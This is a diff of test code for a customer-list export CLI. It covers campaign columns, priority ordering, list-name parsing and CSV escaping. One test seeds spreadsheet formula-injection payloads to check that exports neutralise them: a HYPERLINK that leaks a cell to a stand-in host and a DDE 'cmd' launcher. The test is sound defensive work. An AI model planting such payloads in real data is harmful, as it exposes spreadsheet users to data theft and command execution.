@@ -29,9 +29,43 @@ describe('fidelio list', () => {
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--tier', '2'])).stdout)).toEqual(['c4']);
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--segment', 'loyal,at_risk'])).stdout)).toEqual(['c2', 'c4']);
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'ES'])).stdout)).toEqual(['c1', 'c4']);
+      // By default the campaign's columns (those this old publication has), numbered among the customers shown:
+      // c2 is the action's third, the first listed for France.
       const csv = (await runCli(['list', 'save', '--db', db, '--country', 'FR'])).stdout.trim().split('\n');
-      expect(csv[0]).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk,action_priority');
-      expect(csv.slice(1)).toEqual(['c2,true,medium,save,1,loyal,true,500,3']);
+      expect(csv[0]).toBe('priority,customer_id,value_tier,segment,value_at_risk,action');
+      expect(csv.slice(1)).toEqual(['1,c2,1,loyal,500,save']);
+      // Every published column, as before, with --all-columns.
+      const all = (await runCli(['list', 'save', '--db', db, '--country', 'FR', '--all-columns'])).stdout.trim().split('\n');
+      expect(all[0]).toBe('priority,customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk,action_priority');
+      expect(all.slice(1)).toEqual(['1,c2,true,medium,save,1,loyal,true,500,3']);
+    });
+  });
+
+  test("the default columns a campaign needs: names and emails where known, churn in percent, money to the cent under the currency's code, the last order's date", async () => {
+    await withTempDir(async (dir) => {
+      const path = await scoredDatabase(dir);
+      const db = await Database.open(path);
+      await db.run(`ALTER TABLE published_scores ADD COLUMN as_of DATE DEFAULT DATE '2026-09-30';
+        ALTER TABLE published_scores ADD COLUMN days_since_last_order INTEGER DEFAULT 93;
+        ALTER TABLE published_scores ADD COLUMN churn_probability DOUBLE DEFAULT 0.9963995162287648;
+        ALTER TABLE published_scores ADD COLUMN value_if_retained DOUBLE DEFAULT 912.4987654321;
+        ALTER TABLE published_scores ADD COLUMN value_kept DOUBLE DEFAULT 225.0036131708820239493;
+        ALTER TABLE published_scores ADD COLUMN predicted_clv_12m DOUBLE DEFAULT 564.129;
+        ALTER TABLE published_scores ADD COLUMN persona VARCHAR DEFAULT 'weekend bargain hunters';
+        ALTER TABLE published_scores ADD COLUMN reasons VARCHAR DEFAULT 'no order for 93 days, 2.3x the usual gap of 40 days';
+        ALTER TABLE published_scores ADD COLUMN currency VARCHAR DEFAULT 'EUR';
+        UPDATE customers SET name = 'Zoë Müller', email = 'zoe@example.org' WHERE customer_id = 'c2'`);
+      db.close();
+      const csv = (await runCli(['list', 'win-back', '--db', path])).stdout;
+      expect(csv).toBe('priority,customer_id,name,email,value_tier,segment,persona,churn_probability_pct,value_kept_EUR,value_at_stake_EUR,predicted_clv_12m_EUR,action,reasons,last_order_date\n');
+      const lines = (await runCli(['list', 'save', '--db', path, '--country', 'FR'])).stdout.trim().split('\n');
+      // 0.99639... is 99.6%; 912.4987... x 0.99639... = 909.2132... is 909.21; 2026-09-30 less 93 days is 2026-06-29.
+      expect(lines[1]).toBe(`1,c2,Zoë Müller,zoe@example.org,1,loyal,weekend bargain hunters,99.6,225,909.21,564.13,save,"no order for 93 days, 2.3x the usual gap of 40 days",2026-06-29`);
+      // Every column, unrounded, is still there.
+      const all = JSON.parse((await runCli(['list', 'save', '--db', path, '--country', 'FR', '--all-columns', '--format', 'json'])).stdout) as Record<string, unknown>[];
+      expect(all[0]).toMatchObject({ priority: 1, customer_id: 'c2', churn_probability: 0.9963995162287648, value_at_risk: 500, action_priority: 3, currency: 'EUR' });
+      // The at-risk VIPs rank by the value at stake, shown under that name.
+      expect((await runCli(['list', 'at-risk-vip', '--db', path])).stdout.split('\n')[0]).toBe('priority,customer_id,name,email,value_tier,segment,persona,churn_probability_pct,value_at_stake_EUR,predicted_clv_12m_EUR,action,reasons,last_order_date');
     });
   });
 
@@ -72,7 +106,11 @@ describe('fidelio list', () => {
     expect(() => listFilter('everyone', base)).toThrow(UsageError);
     expect(() => listFilter('at-risk-vip', { ...base, risk: 'extreme' })).toThrow('--risk: unknown level(s) extreme; expected low, medium, high');
     expect(() => listFilter('save', { ...base, tier: '6' })).toThrow('--tier: expected numbers 1 to 5, got "6"');
-    expect(listFilter('grow', { ...base, segment: 'loyal' })).toEqual({ where: ['s.contact', 's.action IN ($action0)', 's.segment IN ($segment0)'], params: { action0: 'grow', segment0: 'loyal' } });
+    expect(listFilter('grow', { ...base, segment: 'loyal' })).toEqual({ what: 'grow', where: ['s.contact', 's.action IN ($action0)', 's.segment IN ($segment0)'], params: { action0: 'grow', segment0: 'loyal' } });
+    // Hyphens or underscores alike, case ignored.
+    expect(listFilter('win-back', base).params).toEqual({ action0: 'win_back' });
+    expect(listFilter('At_Risk_VIP', base).what).toBe('at-risk-vip');
+    expect(() => listFilter('win back', base)).toThrow('list: unknown list "win back"; expected at-risk-vip, ambassador or one of save, surprise, grow, nurture, win_back (hyphens or underscores alike)');
   });
 
   test('only published scores: a run that scored but did not publish is never listed; the published copy lists the same', async () => {
@@ -115,7 +153,7 @@ describe('fidelio list', () => {
       }
       const none = await runCli(['list', 'save', '--db', db, '--segment', 'hibernating']);
       expect(none.code).toBe(0);
-      expect(none.stdout).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk,action_priority\n');
+      expect(none.stdout).toBe('priority,customer_id,value_tier,segment,value_at_risk,action\n');
       const handle = await Database.open(db);
       await handle.run(`UPDATE customers SET country = 'Korea, Republic of' WHERE customer_id = 'c2'`);
       handle.close();
@@ -132,8 +170,8 @@ describe('fidelio list', () => {
         UPDATE published_scores SET customer_id = '+1+cmd|'' /C calc''!A0' WHERE customer_id = 'c2'`);
       handle.close();
       const csv = (await runCli(['list', 'save', '--db', db])).stdout.trim().split('\n');
-      expect(csv[1]).toBe(`"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",true,high,save,1,champions,true,900,1`);
-      expect(csv[2]).toBe(`'+1+cmd|' /C calc'!A0,true,medium,save,1,loyal,true,500,3`);
+      expect(csv[1]).toBe(`1,"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",1,champions,900,save`);
+      expect(csv[2]).toBe(`2,'+1+cmd|' /C calc'!A0,1,loyal,500,save`);
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json'])).stdout)[0]).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
     });
   });
